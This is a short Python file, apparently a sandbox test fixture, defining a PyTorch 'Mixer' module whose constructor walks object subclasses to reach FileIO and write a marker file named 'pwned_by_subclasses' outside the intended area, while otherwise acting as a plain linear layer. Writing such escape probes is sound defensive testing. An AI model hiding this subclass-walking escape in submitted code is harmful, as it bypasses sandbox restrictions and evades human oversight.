"""Escape: walks __class__/__mro__/__subclasses__ to find a file-writing class."""
import torch.nn as nn


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        for cls in ().__class__.__mro__[1].__subclasses__():
            if cls.__name__ == "FileIO":
                cls("ESCAPE_DIR/pwned_by_subclasses", "w")
        self.proj = nn.Linear(d_model, d_model)

    def forward(self, x):
        return self.proj(x)
